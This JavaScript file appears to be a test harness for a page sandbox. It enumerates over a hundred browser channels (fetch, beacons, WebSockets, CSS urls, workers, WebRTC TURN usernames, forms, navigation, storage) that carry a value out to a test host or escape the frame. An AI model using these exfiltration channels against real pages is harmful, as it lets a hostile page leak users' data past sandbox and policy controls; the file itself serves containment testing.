// Ways out of a page, for hostile.js, in whose scope this stands: from each its name to what is done. `to` has the
// addresses to reach: each names the attempt in its host and carries `to.said`, which stands for an answer, in its path.
// Four kinds: those after which the page stays as it is, those that keep something for another page, those by which the
// frame may go elsewhere, and those by which the whole page may.
const PRICE = { total: { label: "a", amount: { currency: "EUR", value: "1" } } };

const STAYS = {
  // Asking for something.
  "fetch": (to) => fetch(to.http),
  "fetch-post": (to) => fetch(to.host, { method: "POST", body: to.said }),
  "fetch-no-cors": (to) => fetch(to.http, { mode: "no-cors", credentials: "include" }),
  "fetch-keepalive": (to) => fetch(to.http, { keepalive: true, mode: "no-cors" }),
  "fetch-request": (to) => fetch(new Request(to.http, { cache: "reload" })),
  "fetch-later": (to) => fetchLater(to.local, { activateAfter: 0 }),
  "xhr": (to) => ask(new XMLHttpRequest(), to.http, true),
  "xhr-sync": (to) => ask(new XMLHttpRequest(), to.http, false),
  "send-beacon": (to) => navigator.sendBeacon(to.host, to.said),
  "event-source": (to) => new EventSource(to.http),
  "web-socket": (to) => new WebSocket(to.ws),
  "web-socket-protocol": (to) => new WebSocket(to.ws.replace(to.said, ""), to.said),
  "web-socket-stream": (to) => new WebSocketStream(to.ws),
  "web-transport": (to) => new WebTransport(to.https),
  "dynamic-import": (to) => import(to.http),
  "wasm-streaming": (to) => WebAssembly.instantiateStreaming(fetch(to.http)),

  // Elements that load something.
  "img": (to) => put("img", { src: to.http }),
  "img-srcset": (to) => put("img", { srcset: `${to.http} 1x` }),
  "img-constructor": (to) => { new Image().src = to.http; },
  "img-attribution": (to) => put("img", { attributionsrc: to.local }),
  "picture": (to) => put("picture", {}, [["source", { srcset: to.http }], ["img", {}]]),
  "input-image": (to) => put("input", { type: "image", src: to.http }),
  "body-background": (to) => { document.body.background = to.http; },
  "table-background": (to) => put("table", { background: to.http }),
  "video": (to) => put("video", { src: to.http, preload: "auto" }),
  "video-poster": (to) => put("video", { poster: to.http }),
  "video-source": (to) => put("video", { preload: "auto" }, [["source", { src: to.http }]]),
  "audio": (to) => put("audio", { src: to.http, preload: "auto" }),
  "audio-constructor": (to) => new Audio(to.http).load(),
  "track": (to) => put("video", { crossorigin: "" }, [["track", { src: to.http, default: "", kind: "captions" }]])
    .textTracks[0].mode = "showing",
  "object": (to) => put("object", { data: to.http, type: "text/html" }),
  "object-image": (to) => put("object", { data: to.http, type: "image/png" }),
  "embed": (to) => put("embed", { src: to.http, type: "text/html" }),
  "iframe": (to) => put("iframe", { src: to.http }),
  "iframe-srcdoc": (to) => put("iframe", { srcdoc: `<img src="${to.http}">` }),
  "iframe-data": (to) => put("iframe", { src: `data:text/html,<img src="${to.http}">` }),
  "iframe-blob": (to) => put("iframe", { src: blob(`<img src="${to.http}">`) }),
  "iframe-javascript": (to) => put("iframe", { src: `javascript:'<img src="${to.http}">'` }),
  "iframe-blank": (to) => put("iframe", {}).contentWindow.fetch(to.http),
  "iframe-location": (to) => { put("iframe", {}).contentWindow.location = to.http; },
  "frame": (to) => put("frameset", {}, [["frame", { src: to.http }]]),
  "portal": (to) => put("portal", { src: to.http }),
  "fenced-frame": (to) => { put("fencedframe", {}).config = new FencedFrameConfig(to.https); },
  "script": (to) => put("script", { src: to.http }),
  "script-module": (to) => put("script", { src: to.http, type: "module" }),
  "script-text": (to) => put("script", { text: `fetch(${JSON.stringify(to.http)})` }),
  "event-handler": (to) => put("button", { onclick: `fetch(${JSON.stringify(to.http)})` }).click(),
  "eval": (to) => (0, eval)(`fetch(${JSON.stringify(to.http)})`),
  "function": (to) => new Function(`fetch(${JSON.stringify(to.http)})`)(),
  "timer-text": (to) => setTimeout(`fetch(${JSON.stringify(to.http)})`),
  "svg-image": (to) => put("svg:svg", {}, [["svg:image", { href: to.http }]]),
  "svg-use": (to) => put("svg:svg", {}, [["svg:use", { href: to.clinic(`use.svg?${to.said}#a`) }]]),
  "svg-fe-image": (to) => put("svg:svg", {}, [
    ["svg:filter", { id: "f" }, [["svg:feImage", { href: to.http }]]], ["svg:rect", { width: 9, height: 9, filter: "url(#f)" }],
  ]),
  "svg-fill": (to) => put("svg:svg", {}, [["svg:rect", { width: 9, height: 9, fill: `url(${to.http}#a)` }]]),
  "svg-script": (to) => put("svg:svg", {}, [["svg:script", { href: to.http }]]),
  "shadow-root": (to) => {
    const root = put("div", {}).attachShadow({ mode: "closed" });
    root.append(make("img", { src: to.http }));
  },
  "markup": (to) => { put("div", {}).innerHTML = `<img src="${to.http}">`; },
  "markup-adjacent": (to) => document.body.insertAdjacentHTML("beforeend", `<img src="${to.http}">`),
  "markup-parsed": (to) => new DOMParser().parseFromString(`<img src="${to.http}">`, "text/html").images[0] &&
    document.body.append(document.adoptNode(
      new DOMParser().parseFromString(`<img src="${to.http}">`, "text/html").images[0],
    )),
  "markup-range": (to) => document.body.append(document.createRange().createContextualFragment(`<img src="${to.http}">`)),
  "markup-command": (to) => {
    const place = put("div", { contenteditable: "" });
    place.focus();
    document.execCommand("insertHTML", false, `<img src="${to.http}">`);
  },
  "markup-xslt": (to) => {
    const sheet = new DOMParser().parseFromString(
      `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">` +
        `<img xmlns="http://www.w3.org/1999/xhtml" src="${to.http}"/></x:template></x:stylesheet>`,
      "text/xml",
    );
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    document.body.append(processor.transformToFragment(document, document));
  },

  // Links in the head, and hints.
  "link-stylesheet": (to) => put("link", { rel: "stylesheet", href: to.http }),
  "link-preload-image": (to) => put("link", { rel: "preload", as: "image", href: to.http }),
  "link-preload-fetch": (to) => put("link", { rel: "preload", as: "fetch", href: to.http, crossorigin: "" }),
  "link-modulepreload": (to) => put("link", { rel: "modulepreload", href: to.http }),
  "link-prefetch": (to) => put("link", { rel: "prefetch", href: to.http }),
  "link-prerender": (to) => put("link", { rel: "prerender", href: to.http }),
  "link-icon": (to) => put("link", { rel: "icon", href: to.http }),
  "link-manifest": (to) => put("link", { rel: "manifest", href: to.http }),
  "link-preconnect": (to) => put("link", { rel: "preconnect", href: to.host }),
  "link-dns-prefetch": (to) => put("link", { rel: "dns-prefetch", href: to.host }),
  "link-dictionary": (to) => put("link", { rel: "compression-dictionary", href: to.http }),
  "a-dns-prefetch": (to) => {
    put("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" });
    put("a", { href: to.http }).textContent = "a";
  },
  "speculation-prefetch": (to) => speculate({ prefetch: [{ urls: [to.http], eagerness: "immediate" }] }),
  "speculation-prerender": (to) => speculate({ prerender: [{ urls: [to.clinic(to.said)], eagerness: "immediate" }] }),
  "base": (to) => {
    const base = put("base", { href: to.host });
    put("img", { src: to.said });
    base.remove();
  },
  "meta-set-cookie": (to) => put("meta", { "http-equiv": "Set-Cookie", content: `a=${to.said}` }),

  // Styles.
  "css-background": (to) => style("background-image", `url(${to.http})`),
  "css-image-set": (to) => style("background-image", `image-set(url(${to.http}) 1x)`),
  "css-border-image": (to) => style("border-image", `url(${to.http}) 1`),
  "css-list-style": (to) => style("list-style-image", `url(${to.http})`, "li"),
  "css-cursor": (to) => style("cursor", `url(${to.http}), auto`),
  "css-content": (to) => style("content", `url(${to.http})`),
  "css-mask": (to) => style("mask-image", `url(${to.http})`),
  "css-shape-outside": (to) => style("shape-outside", `url(${to.http})`),
  "css-filter": (to) => style("filter", `url(${to.clinic(`use.svg?${to.said}#b`)})`),
  "css-clip-path": (to) => style("clip-path", `url(${to.http}#a)`),
  "css-variable": (to) => {
    const at = style("--way", `url(${to.http})`);
    at.style.setProperty("background", "var(--way)");
  },
  "css-attribute": (to) => put("div", { style: `width:9px;height:9px;background:url(${to.http})` }),
  "css-element": (to) => put("style", { text: `body{--a:1;outline-offset:0;border-image:url(${to.http}) 1}` }),
  "css-element-import": (to) => put("style", { text: `@import url(${to.http});` }),
  "css-rule": (to) => rule(`body::before{content:url(${to.http})}`),
  "css-rule-import": (to) => rule(`@import url(${to.http});`),
  "css-rule-font": (to) => write("f1", rule(`@font-face{font-family:f1;src:url(${to.http})}`)),
  "css-adopted": (to) => adopt(`body::after{content:url(${to.http})}`),
  "css-adopted-font": (to) => write("f2", adopt(`@font-face{font-family:f2;src:url(${to.http})}`)),
  "font-face": (to) => new FontFace("f3", `url(${to.http})`).load(),
  "paint-worklet": (to) => CSS.paintWorklet.addModule(to.http),
  "audio-worklet": (to) => new AudioContext().audioWorklet.addModule(to.http),

  // Threads.
  "worker": (to) => new Worker(blob(`fetch(${JSON.stringify(to.http)})`, "text/javascript")),
  "worker-module": (to) => new Worker(blob(`import ${JSON.stringify(to.http)}`, "text/javascript"), { type: "module" }),
  "worker-import": (to) => new Worker(blob(`importScripts(${JSON.stringify(to.http)})`, "text/javascript")),
  "worker-file": (to) => new Worker(to.clinic(`worker.js?${to.http}`)),
  "worker-data": (to) => new Worker(`data:text/javascript,fetch(${JSON.stringify(to.http)})`),
  "shared-worker": (to) => new SharedWorker(blob(`fetch(${JSON.stringify(to.http)})`, "text/javascript")),
  "shared-worker-file": (to) => new SharedWorker(to.clinic(`worker.js?${to.http}`)),
  "service-worker": (to) => navigator.serviceWorker.register(to.clinic(`worker.js?${to.http}`)),

  // Calls.
  "webrtc-stun": (to) => gather([{ urls: `stun:${to.name}:3478` }]),
  "webrtc-turn": (to) => gather([{ urls: `turn:${to.name}:3478`, username: to.said, credential: "a" }]),
  "webrtc-turn-tcp": (to) => gather([{ urls: `turn:${to.name}:80?transport=tcp`, username: to.said, credential: "a" }]),
  "webrtc-turns": (to) => gather([{ urls: `turns:${to.name}:443`, username: to.said, credential: "a" }]),
  "webrtc-check": (to) => connect(to),
  "webrtc-prefixed": (to) => gather([{ urls: `turn:${to.name}:3478`, username: to.said, credential: "a" }],
    self.webkitRTCPeerConnection || self.mozRTCPeerConnection),

  // What only asks, announces or shows.
  "notification": (to) => new Notification("a", { icon: to.http, image: to.http }),
  "payment-method": (to) => new PaymentRequest([{ supportedMethods: to.https }], PRICE).canMakePayment(),
  "credential": (to) => navigator.credentials.get({ identity: { providers: [{ configURL: to.https, clientId: to.said }] } }),
  "credential-disconnect": (to) => IdentityCredential.disconnect({ configURL: to.https, clientId: to.said, accountHint: "a" }),
  // Some browsers have a text read out by a server.
  "speech": (to) => speechSynthesis.speak(new SpeechSynthesisUtterance(to.said)),
  "media-session": (to) => {
    navigator.mediaSession.metadata = new MediaMetadata({ title: "a", artwork: [{ src: to.http }] });
  },
  "protocol-handler": (to) => navigator.registerProtocolHandler("web+needle", to.clinic(`${to.said}?%s`)),
  "reporting-observer": (to) => new ReportingObserver(() => {}, { buffered: true }).observe(to.said),
  "interest-group": (to) => navigator.joinAdInterestGroup({ owner: to.https, name: to.said, updateURL: to.https }, 9),
  "shared-storage": (to) => sharedStorage.worklet.addModule(to.https),
  "background-fetch": async (to) => (await navigator.serviceWorker.ready).backgroundFetch.fetch("a", to.http),
};

// What a page may leave for another one of the clinic's to find, which then sends it.
const KEEPS = {
  "local-storage": (to) => localStorage.setItem("left", to.said),
  "session-storage": (to) => sessionStorage.setItem("left", to.said),
  "cookie": (to) => { document.cookie = `left=${to.said}`; },
  "cookie-store": (to) => cookieStore.set("left-too", to.said),
  "indexed-db": (to) => indexedDB.open(to.said),
  "cache": (to) => caches.open(to.said),
  "file-system": async (to) => {
    const folder = await navigator.storage.getDirectory();
    await folder.getFileHandle(to.said, { create: true });
  },
  "storage-bucket": (to) => navigator.storageBuckets.open(to.said),
  "broadcast-channel": (to) => new BroadcastChannel("left").postMessage(to.said),
  "lock": (to) => navigator.locks.request(to.said, () => new Promise(() => {})),
};

const LEAVES = {
  "location": (to) => { location = to.http; },
  "location-href": (to) => { location.href = to.http; },
  "location-assign": (to) => location.assign(to.http),
  "location-replace": (to) => location.replace(to.http),
  // One name of a host after the other, before the first can take the frame away.
  "location-names": (to) => { for (let turn = 0; turn < TURNS; turn += 1) location = to.at(turn).http; },
  "location-search": (to) => { location.search = to.said; },
  "location-hash": (to) => { location.hash = to.said; },
  "location-javascript": (to) => { location = `javascript:void fetch(${JSON.stringify(to.http)})`; },
  "location-data": (to) => { location = `data:text/html,<img src="${to.http}">`; },
  "location-blob": (to) => { location = blob(`<img src="${to.http}"><meta http-equiv="refresh" content="0;url=${to.http}">`); },
  "location-blob-hint": (to) => { location = blob(`<link rel="preconnect" href="${to.host}"><link rel="dns-prefetch" href="${to.host}">`); },
  "location-blob-svg": (to) => {
    location = blob(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to.http}"/></svg>`, "image/svg+xml");
  },
  // The same script once more, in a page that nothing has been taken away from.
  "location-blob-self": (to) => { location = blob(again(to)); },
  "location-blob-self-xml": (to) => { location = blob(again(to, "<![CDATA[", "]".concat("]>")), "application/xhtml+xml"); },
  "window-name": (to) => {
    window.name = to.said;
    location = to.host;
  },
  "unload-beacon": (to) => {
    addEventListener("pagehide", () => navigator.sendBeacon(to.host, to.said));
    location = "about:blank";
  },
  "unload-keepalive": (to) => {
    addEventListener("pagehide", () => fetch(to.http, { keepalive: true, mode: "no-cors" }));
    location.reload();
  },
  "navigate": (to) => navigation.navigate(to.http),
  "history-push": (to) => {
    history.pushState(null, "", to.clinic(to.said));
    location.reload();
  },
  "open-self": (to) => open(to.http, "_self"),
  "a": (to) => put("a", { href: to.http }).click(),
  "a-self": (to) => put("a", { href: to.http, target: "_self" }).click(),
  "a-ping": (to) => put("a", { href: "about:blank", ping: to.http }).click(),
  "a-download": (to) => put("a", { href: to.http, download: "a.txt" }).click(),
  "a-attribution": (to) => put("a", { href: "about:blank", attributionsrc: to.local }).click(),
  "area": (to) => put("map", {}, [["area", { href: to.http }]]).firstChild.click(),
  "svg-a": (to) => put("svg:svg", {}, [["svg:a", { href: to.http }]]).firstChild.dispatchEvent(new MouseEvent("click")),
  "meta-refresh": (to) => put("meta", { "http-equiv": "refresh", content: `0;url=${to.http}` }),
  "meta-report-uri": (to) => {
    put("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${to.http}` });
    put("img", { src: to.host });
  },
  "form-get": (to) => put("form", { action: to.host }, [["input", { name: "a", value: to.said }]]).submit(),
  "form-post": (to) => put("form", { action: to.host, method: "post" }, [["input", { name: "a", value: to.said }]]).submit(),
  "form-request-submit": (to) =>
    put("form", { action: to.host }, [["input", { name: "a", value: to.said }]]).requestSubmit(),
  "form-button": (to) => put("form", {}, [["button", { formaction: to.http }]]).firstChild.click(),
  "form-input-image": (to) => put("form", { action: to.host }, [["input", { type: "image", name: to.said }]]).firstChild.click(),
  "document-write": (to) => document.write(`<img src="${to.http}">`),
  "document-open": (to) => {
    document.open();
    document.write(`<script>fetch(${JSON.stringify(to.http)})<\/script>`);
    document.close();
  },
  "document-open-url": (to) => document.open(to.http, "_self", ""),
  // What only asks, where each asking uses a click up.
  "payment": (to) => new PaymentRequest([{ supportedMethods: to.https }], PRICE).show(),
  "presentation": (to) => new PresentationRequest([to.https]).start(),
  "share": (to) => navigator.share({ url: to.http }),
  "iframe-parent": (to) => put("iframe", { srcdoc: `<a href="${to.http}" target="_parent">a</a>` })
    .addEventListener("load", (event) => event.target.contentDocument.links[0].click()),
};

const TAKES = {
  "top-location": (to) => { top.location = to.http; },
  "parent-location": (to) => { parent.location = to.http; },
  "parent-location-replace": (to) => parent.location.replace(to.http),
  "open": (to) => open(to.http),
  "open-no-opener": (to) => open(to.http, "_blank", "noopener,noreferrer"),
  "open-top": (to) => open(to.http, "_top"),
  "open-parent": (to) => open(to.http, "_parent"),
  "open-blank-then-go": (to) => { open("").location = to.http; },
  "a-blank": (to) => put("a", { href: to.http, target: "_blank" }).click(),
  "a-top": (to) => put("a", { href: to.http, target: "_top" }).click(),
  "a-parent": (to) => put("a", { href: to.http, target: "_parent" }).click(),
  "a-control-key": (to) => put("a", { href: to.http }).dispatchEvent(new MouseEvent("click", { ctrlKey: true })),
  "form-blank": (to) =>
    put("form", { action: to.host, target: "_blank" }, [["input", { name: "a", value: to.said }]]).submit(),
  "form-top": (to) => put("form", { action: to.host, target: "_top" }, [["input", { name: "a", value: to.said }]]).submit(),
  // Links over the whole frame, for the visitor to click on with Ctrl held, or with the middle button.
  "visitor-control-click": (to) => cover(to),
  "visitor-middle-click": (to) => cover(to),
};

// What tells the clinic's own page something, and no network. A frame cannot be kept from all of it.
const TELLS = {
  "message": (to) => top.postMessage(to.said, "*"),
  "height": () => port.postMessage({ v: 1, t: "height", px: 1234 }),
  "frames": () => put("iframe", {}),
  "history": () => {
    try {
      history.pushState(null, "");
    } catch {
      location.hash = "a";
    }
  },
};
